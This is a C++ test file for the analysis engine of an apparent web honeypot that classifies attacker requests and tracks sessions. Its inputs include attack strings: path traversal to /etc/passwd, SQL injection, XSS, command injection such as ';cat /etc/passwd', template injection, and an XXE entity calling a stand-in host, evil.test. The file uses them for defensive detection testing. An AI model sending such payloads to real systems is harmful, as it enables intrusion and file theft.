#include <doctest.h>
#include <httplib.h>

#include <atomic>

#include "support.hpp"
#include "webtrap/analysis/config.hpp"
#include "webtrap/analysis/core.hpp"
#include "webtrap/analysis/server.hpp"
#include "webtrap/util/uuid.hpp"

using namespace webtrap::analysis;
using webtrap::testing::TempDir;

namespace {

const std::string kPasswdFirst = "root:x:0:0:root:/root:/bin/bash\n";

struct FakeClock {
    std::shared_ptr<std::atomic<double>> t = std::make_shared<std::atomic<double>>(1594338099.0);
    std::function<double()> fn() const {
        auto p = t;
        return [p] { return p->load(); };
    }
    void advance(double s) { t->store(t->load() + s); }
};

AnalysisCore::Options options(FakeClock& clock, std::optional<std::string> hostname = std::nullopt) {
    AnalysisCore::Options o;
    o.clock = clock.fn();
    o.resolver = [hostname](const std::string&) { return hostname; };
    return o;
}

HttpEvent event(std::string path, std::string ip = "198.51.100.7", std::string ua = "Mozilla/5.0", double ts = 1594338099.0) {
    HttpEvent e;
    e.method = "GET";
    e.path = std::move(path);
    e.headers = {{"User-Agent", std::move(ua)}, {"Host", "shop.example"}};
    e.peer_ip = std::move(ip);
    e.peer_port = 40000;
    e.timestamp = ts;
    return e;
}

}  // namespace

TEST_SUITE("analysis") {
    TEST_CASE("config parsing") {
        auto cfg = parse_config(
            "# comment\n"
            "sqli.template = \"SELECT * FROM users WHERE id={payload}\"\n"
            "xxe.oob_enabled = yes\n"
            "xxe.collector = 127.0.0.1:9999\n"
            "session.idle_timeout = 1.5\n"
            "detection.min_requests = 20\n"
            "store.backend = redis\n"
            "hidden_link = /trap\n");
        CHECK(cfg.sqli_template == "SELECT * FROM users WHERE id={payload}");
        CHECK(cfg.xxe_oob_enabled);
        CHECK(cfg.xxe_collector == "127.0.0.1:9999");
        CHECK(cfg.idle_timeout == std::chrono::milliseconds(1500));
        CHECK(cfg.thresholds.min_requests == 20);
        CHECK(cfg.thresholds.max_duration == 10);
        CHECK(cfg.store_backend == "redis");
        CHECK(cfg.hidden_link == "/trap");

        AnalysisConfig defaults;
        CHECK(defaults.thresholds.min_requests == 100);
        CHECK(defaults.idle_timeout == std::chrono::seconds(75));
        CHECK_FALSE(defaults.xxe_oob_enabled);
        CHECK_FALSE(defaults.rfi_fetch_enabled);
        CHECK(defaults.backend == webtrap::sandbox::Backend::simulated);
    }

    TEST_CASE("config errors name the line") {
        auto line_of = [](const std::string& text) -> std::size_t {
            try {
                parse_config(text, "t.conf");
            } catch (const ConfigError& e) {
                CHECK(std::string(e.what()).rfind("t.conf:", 0) == 0);
                return e.line();
            }
            return 0;
        };
        CHECK(line_of("\n\nbogus = 1\n") == 3);
        CHECK(line_of("xxe.oob_enabled = maybe") == 1);
        CHECK(line_of("# ok\nsqli.template = SELECT 1") == 2);
        CHECK(line_of("no equals sign") == 1);
        CHECK(line_of("session.idle_timeout = -3") == 1);
        CHECK(line_of("store.redis = host:99999") == 1);
        CHECK(line_of("sandbox.backend = vm") == 1);
        CHECK(line_of("manifest = /nonexistent/meta.json") == 1);
        CHECK_THROWS_AS(load_config("/nonexistent/webtrap.conf"), ConfigError);
    }

    TEST_CASE("manifest pages become known pages") {
        TempDir dir;
        webtrap::testing::write_text(dir.path() / "meta.json", R"({"pages":{"/":{},"/about":{}}})");
        auto cfg = parse_config("manifest = " + (dir.path() / "meta.json").string());
        CHECK(cfg.known_pages == std::set<std::string>{"/", "/about"});
    }

    TEST_CASE("host port splitting") {
        CHECK(split_host_port("127.0.0.1:8090", 1) == std::pair<std::string, int>{"127.0.0.1", 8090});
        CHECK(split_host_port("example.org", 80) == std::pair<std::string, int>{"example.org", 80});
        CHECK(split_host_port(":8080", 1) == std::pair<std::string, int>{"0.0.0.0", 8080});
        CHECK(split_host_port("[::1]:9", 1) == std::pair<std::string, int>{"::1", 9});
        CHECK_THROWS_AS(split_host_port("h:x", 1), std::invalid_argument);
    }

    TEST_CASE("event and verdict wire format") {
        auto e = event("/?q=1");
        e.cookies = {{"a", "b"}};
        e.post_data = {{"k", "v"}};
        e.uuid = "6f1b6ef5-c988-4910-8353-4fd5bb0a73b6";
        auto j = e.to_json();
        for (auto key : {"method", "path", "headers", "cookies", "post_data", "peer", "uuid", "timestamp"}) {
            CHECK(j.contains(key));
        }
        auto back = HttpEvent::from_json(j);
        CHECK(back.to_json() == j);
        CHECK(back.user_agent() == "Mozilla/5.0");
        j["uuid"] = nullptr;
        CHECK_FALSE(HttpEvent::from_json(j).uuid.has_value());

        for (const char* bad : {R"([])", R"({"method":"GET"})",
                                R"({"method":"GET","path":"/","peer":{"ip":"x","port":"1"},"timestamp":0})",
                                R"({"method":"GET","path":"/","peer":{"ip":"x","port":1},"timestamp":-1})",
                                R"({"method":"GET","path":"/","peer":{"ip":"x","port":1},"timestamp":0,"headers":{"a":1}})"}) {
            CAPTURE(bad);
            CHECK_THROWS_AS(HttpEvent::from_json(json::parse(bad)), EventError);
        }

        Verdict v;
        v.sess_uuid = "u";
        v.type = VerdictType::inject;
        v.name = "lfi";
        v.payload = "x";
        v.page = false;
        auto vj = v.to_json();
        CHECK(vj == json::parse(R"({"sess_uuid":"u","detection":{"type":2,"name":"lfi","payload":"x","page":false}})"));
        auto vb = Verdict::from_json(vj);
        CHECK(vb.type == VerdictType::inject);
        CHECK(vb.payload == std::optional<std::string>("x"));
        CHECK_FALSE(vb.page);
        CHECK_THROWS_AS(Verdict::from_json(json::parse(R"({"sess_uuid":"u","detection":{"type":7}})")), EventError);
    }

    TEST_CASE("session json round-trip") {
        Session s;
        s.uuid = webtrap::util::make_uuid_v4();
        s.ip = "10.0.0.1";
        s.port = 5;
        s.user_agents = {"a", "b"};
        s.start_time = 1;
        s.end_time = 2.5;
        s.request_count = 3;
        s.paths = {{"/x?y=1", 1.5, "lfi"}};
        s.attack_counts = {{"lfi", 1}};
        s.cookies = {{"c", "d"}};
        s.hidden_link_hits = 1;
        s.robots_fetched = true;
        s.logs = {"note"};
        s.peer_hostname = "h.example";
        s.owners = webtrap::detection::OwnerConfidence{1, 0, 0, 0};
        s.finished = true;
        CHECK(Session::from_json(s.to_json()).to_json() == s.to_json());
        CHECK(attacked_locations(s) == std::vector<std::string>{"/"});
    }

    TEST_CASE("first event creates a session") {
        FakeClock clock;
        AnalysisCore core(options(clock));
        auto v = core.handle_event(event("/"));
        CHECK(webtrap::util::is_uuid_v4(v.sess_uuid));
        CHECK(v.type == VerdictType::plain_page);
        CHECK(v.name == "index");
        auto s = core.get_session(v.sess_uuid);
        CHECK(s.request_count == 1);
        CHECK(s.user_agents == std::vector<std::string>{"Mozilla/5.0"});
        CHECK(core.active_sessions() == 1);
    }

    TEST_CASE("lfi event") {
        FakeClock clock;
        AnalysisCore core(options(clock));
        auto v = core.handle_event(event("/index.php?file=../../etc/passwd"));
        CHECK(v.type == VerdictType::inject);
        CHECK(v.name == "lfi");
        REQUIRE(v.payload);
        CHECK(v.payload->rfind(kPasswdFirst, 0) == 0);
        CHECK(core.get_session(v.sess_uuid).attack_counts.at("lfi") == 1);
    }

    TEST_CASE("sessions follow the cookie, then the peer") {
        FakeClock clock;
        AnalysisCore core(options(clock));
        auto first = core.handle_event(event("/"));
        auto same_peer = core.handle_event(event("/about"));
        CHECK(same_peer.sess_uuid == first.sess_uuid);

        auto other = event("/", "203.0.113.9");
        auto second = core.handle_event(other);
        CHECK(second.sess_uuid != first.sess_uuid);

        // the cookie wins over the peer lookup
        auto cookie = event("/", "203.0.113.9");
        cookie.uuid = first.sess_uuid;
        CHECK(core.handle_event(cookie).sess_uuid == first.sess_uuid);
        CHECK(core.get_session(first.sess_uuid).request_count == 3);

        // invalid or unknown uuids fall back to a fresh session
        auto forged = event("/", "192.0.2.50");
        forged.uuid = "not-a-uuid";
        auto fresh = core.handle_event(forged);
        CHECK(fresh.sess_uuid != first.sess_uuid);
        CHECK(webtrap::util::is_uuid_v4(fresh.sess_uuid));
        CHECK(core.list_sessions().size() == 3);
    }

    TEST_CASE("cookies accumulate and cookie payloads are scanned") {
        FakeClock clock;
        AnalysisCore core(options(clock));
        auto e = event("/");
        e.cookies = {{"pref", "dark"}, {"SNARE_UUID", "x"}};
        auto v = core.handle_event(e);
        e.cookies = {{"cart", R"(O:3:"Foo":1:{s:1:"a";i:7;})"}};
        auto obj = core.handle_event(e);
        CHECK(obj.name == "php_object_injection");
        auto s = core.get_session(v.sess_uuid);
        CHECK(s.cookies.count("pref") == 1);
        CHECK(s.cookies.count("cart") == 1);
        CHECK(s.cookies.count("SNARE_UUID") == 0);
        CHECK(s.logs.size() == 2);
        e.cookies = {{"c", "<script>alert(1)</script>"}};
        CHECK(core.handle_event(e).name == "index");
    }

    TEST_CASE("robots and hidden link") {
        FakeClock clock;
        AnalysisCore core(options(clock));
        auto v = core.handle_event(event("/robots.txt"));
        CHECK(v.type == VerdictType::plain_page);
        CHECK(core.handle_event(event("/s3cr3t-trap")).type == VerdictType::plain_page);
        auto s = core.get_session(v.sess_uuid);
        CHECK(s.robots_fetched);
        CHECK(s.hidden_link_hits == 1);
        CHECK(s.attack_counts.empty());
    }

    TEST_CASE("unknown paths are scanned, known pages are index") {
        FakeClock clock;
        AnalysisCore core(options(clock));
        CHECK(core.handle_event(event("/nothing-here")).name == "unknown");
        auto lfi = core.handle_event(event("/etc/passwd"));
        CHECK(lfi.name == "lfi");
        CHECK_FALSE(lfi.page);
        CHECK(core.handle_event(event("/%3Cscript%3Ealert(1)%3C/script%3E")).name == "xss");
        CHECK(core.handle_event(event("/")).name == "index");
    }

    TEST_CASE("post bodies are scanned") {
        FakeClock clock;
        AnalysisCore core(options(clock));
        auto e = event("/login");
        e.method = "POST";
        e.post_data = {{"user", "' OR '1'='1"}};
        auto v = core.handle_event(e);
        CHECK(v.name == "sqli");
        CHECK(std::count(v.payload->begin(), v.payload->end(), '\n') == 100);
    }

    TEST_CASE("malformed events yield error verdicts") {
        FakeClock clock;
        AnalysisCore core(options(clock));
        auto v = core.handle_event_json(json::parse(R"({"method":"GET"})"));
        CHECK(v.type == VerdictType::error);
        CHECK(core.events_accepted() == 0);
    }

    TEST_CASE("finalize computes owners") {
        FakeClock clock;
        AnalysisCore core(options(clock));
        auto v = core.handle_event(event("/?id=' OR '1'='1"));
        auto s = core.finalize_session(v.sess_uuid);
        CHECK(s.finished);
        CHECK(*s.owners == webtrap::detection::OwnerConfidence{1.0, 0.0, 0.0, 0.0});
        CHECK(core.active_sessions() == 0);
        CHECK_THROWS_AS(core.finalize_session(v.sess_uuid), NotFound);
        CHECK_THROWS_AS(core.finalize_session(webtrap::util::make_uuid_v4()), NotFound);
        CHECK(core.get_session(v.sess_uuid).finished);
        CHECK(core.report(v.sess_uuid).at("Status") == "finished");
    }

    TEST_CASE("fast known bot is a crawler") {
        FakeClock clock;
        AnalysisCore core(options(clock, "crawl-66-249-66-1.googlebot.com"));
        std::string uuid;
        for (int i = 0; i < 150; ++i) {
            auto e = event("/", "66.249.66.1", "Mozilla/5.0 (compatible; Googlebot/2.1)", 1594338099.0 + i * 5.0 / 149);
            uuid = core.handle_event(e).sess_uuid;
        }
        auto s = core.finalize_session(uuid);
        CHECK(s.request_count == 150);
        CHECK(s.peer_hostname == std::optional<std::string>("crawl-66-249-66-1.googlebot.com"));
        CHECK(s.owners->crawler == 0.85);
        CHECK(s.owners->tool == 0.15);
        CHECK(s.owners->attacker == 0.25);
    }

    TEST_CASE("benign single request report") {
        FakeClock clock;
        AnalysisCore core(options(clock));
        auto v = core.handle_event(event("/"));
        core.finalize_session(v.sess_uuid);
        auto r = core.report(v.sess_uuid);
        for (auto key : {"UUID", "IP address", "Location", "Port", "User Agents", "Attack Types", "Possible owners",
                         "Start time", "End time", "Requests", "Request rate", "Status"}) {
            CHECK(r.contains(key));
        }
        CHECK(r.at("Attack Types").empty());
        CHECK(r.at("Possible owners").at("user") == 1.0);
        CHECK(r.at("Start time") == "2020-07-09T23:41:39Z");
        CHECK_THROWS_AS(core.report(webtrap::util::make_uuid_v4()), NotFound);
    }

    TEST_CASE("idle sweep uses the clock") {
        FakeClock clock;
        auto o = options(clock);
        o.config.idle_timeout = std::chrono::seconds(30);
        AnalysisCore core(o);
        core.handle_event(event("/"));
        clock.advance(20);
        core.handle_event(event("/", "203.0.113.2"));
        clock.advance(10);
        CHECK(core.sweep() == 1);
        CHECK(core.active_sessions() == 1);
        clock.advance(19);  // second session idle 29 s
        CHECK(core.sweep() == 0);
        clock.advance(1);
        CHECK(core.sweep() == 1);
        CHECK(core.store().get_stats().has_value());
    }

    TEST_CASE("returning client resumes a finished session") {
        FakeClock clock;
        AnalysisCore core(options(clock));
        auto v = core.handle_event(event("/"));
        core.finalize_session(v.sess_uuid);
        auto again = event("/");
        again.uuid = v.sess_uuid;
        CHECK(core.handle_event(again).sess_uuid == v.sess_uuid);
        auto s = core.get_session(v.sess_uuid);
        CHECK_FALSE(s.finished);
        CHECK(s.request_count == 2);
    }

    TEST_CASE("stats totals") {
        FakeClock clock;
        AnalysisCore core(options(clock));
        auto empty = core.stats_summary();
        for (const auto& [name, count] : empty.at("attack_totals").items()) CHECK(count == 0);
        CHECK(empty.at("total_sessions") == 0);
        CHECK(empty.at("total_requests") == 0);

        core.handle_event(event("/?c=;cat /etc/passwd", "192.0.2.1"));
        core.handle_event(event("/?c=;id", "192.0.2.2"));
        core.handle_event(event("/", "192.0.2.2"));
        auto stats = core.stats_summary();
        CHECK(stats.at("attack_totals").at("cmd_exec") == 2);
        CHECK(stats.at("total_sessions") == 2);
        CHECK(stats.at("total_requests") == 3);
        CHECK(stats.at("events_accepted") == 3);
        CHECK(stats.at("events_per_second") == doctest::Approx(3.0 / 60));
        CHECK(core.list_sessions(std::string("cmd_exec")).size() == 2);
    }

    TEST_CASE("storage failure gives an error verdict") {
        struct Broken : webtrap::store::SessionStore {
            void put(const std::string&, const json&) override { throw webtrap::store::StoreError("disk full"); }
            std::optional<json> get(const std::string&) const override { return std::nullopt; }
            std::vector<std::string> keys(std::string_view) const override { return {}; }
        };
        FakeClock clock;
        auto o = options(clock);
        o.store = std::make_shared<Broken>();
        AnalysisCore core(o);
        auto v = core.handle_event(event("/?q={{7*7}}"));
        CHECK(v.type == VerdictType::error);
        CHECK_FALSE(v.payload.has_value());
    }

    TEST_CASE("http endpoints") {
        FakeClock clock;
        AnalysisCore core(options(clock));
        AnalysisServer server(core);
        int port = server.start("127.0.0.1", 0);
        httplib::Client cli("127.0.0.1", port);

        auto res = cli.Post("/event", event("/?q={{7*7}}").to_json().dump(), "application/json");
        REQUIRE(res);
        CHECK(res->status == 200);
        auto verdict = json::parse(res->body);
        CHECK(verdict.at("detection").at("type") == 2);
        CHECK(verdict.at("detection").at("payload") == "49");
        std::string uuid = verdict.at("sess_uuid");

        auto junk = cli.Post("/event", "{not json", "application/json");
        REQUIRE(junk);
        CHECK(junk->status == 400);
        CHECK(json::parse(junk->body).at("detection").at("type") == 3);

        auto sessions = cli.Get("/sessions?attack=template_injection");
        REQUIRE(sessions);
        CHECK(json::parse(sessions->body).at("sessions") == json::array({uuid}));

        auto report = cli.Get("/session/" + uuid);
        REQUIRE(report);
        CHECK(report->status == 200);
        CHECK(json::parse(report->body).at("UUID") == uuid);

        auto missing = cli.Get("/session/" + webtrap::util::make_uuid_v4());
        REQUIRE(missing);
        CHECK(missing->status == 404);

        auto stats = cli.Get("/stats");
        REQUIRE(stats);
        CHECK(json::parse(stats->body).at("attack_totals").at("template_injection") == 1);
        server.stop();
    }

    TEST_CASE("oob collector records hits") {
        OobCollector collector;
        int port = collector.start("127.0.0.1", 0);
        FakeClock clock;
        auto o = options(clock);
        o.config.xxe_oob_enabled = true;
        o.config.xxe_collector = "127.0.0.1:" + std::to_string(port);
        AnalysisCore core(o);
        auto e = event("/upload");
        e.method = "POST";
        e.post_data = {{"xml", "<!DOCTYPE a [<!ENTITY e SYSTEM \"http://evil.test/x?d=1\">]><a>&e;</a>"}};
        auto v = core.handle_event(e);
        CHECK(v.name == "xxe_injection");
        auto hits = collector.hits();
        REQUIRE(hits.size() == 1);
        CHECK(hits[0].method == "GET");
        CHECK(hits[0].target == "/x?d=1");
        auto logs = core.get_session(v.sess_uuid).logs;
        REQUIRE(logs.size() == 1);
        CHECK(logs[0].find("xxe-oob") == 0);
        collector.stop();
    }
}
